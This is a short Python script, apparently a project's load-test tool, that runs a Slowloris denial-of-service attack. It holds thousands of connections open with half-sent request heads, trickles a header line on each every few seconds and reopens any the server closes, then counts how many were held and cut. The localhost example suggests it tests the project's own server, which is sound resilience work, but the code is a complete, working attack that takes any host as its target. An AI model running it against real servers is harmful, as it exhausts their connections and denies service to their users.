#!/usr/bin/env python3
"""Slowloris: hold N connections, each with half a request head sent, and
trickle a header line on each every few seconds, as the attack does; a
connection the server closes is opened again at once. Runs until killed
or --seconds pass; prints how many were held and how many the server cut.

    scripts/slowloris.py 127.0.0.1:8080 2000 --seconds 30
"""
import argparse
import socket
import time


def open_one(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.setblocking(False)
    s.send(b"POST /scenes/city/visible HTTP/1.1\r\nHost: pvsd\r\nContent-Length: 60\r\n")
    return s


def main():
    p = argparse.ArgumentParser()
    p.add_argument("target")
    p.add_argument("connections", type=int)
    p.add_argument("--seconds", type=float, default=60)
    p.add_argument("--trickle", type=float, default=2.0, help="seconds between header lines")
    a = p.parse_args()
    host, port = a.target.rsplit(":", 1)
    port = int(port)
    socks = [open_one(host, port) for _ in range(a.connections)]
    cut = 0
    end = time.time() + a.seconds
    while time.time() < end:
        time.sleep(a.trickle)
        for i, s in enumerate(socks):
            try:
                # A closed socket shows as a read of b"" or an error.
                try:
                    if s.recv(1024) == b"":
                        raise ConnectionError("closed")
                except BlockingIOError:
                    pass
                s.send(b"X-Slow: 1\r\n")
            except (OSError, ConnectionError):
                cut += 1
                s.close()
                try:
                    socks[i] = open_one(host, port)
                except OSError:
                    pass
    print(f"held {len(socks)} connections for {a.seconds:.0f} s; the server cut {cut}")


if __name__ == "__main__":
    main()
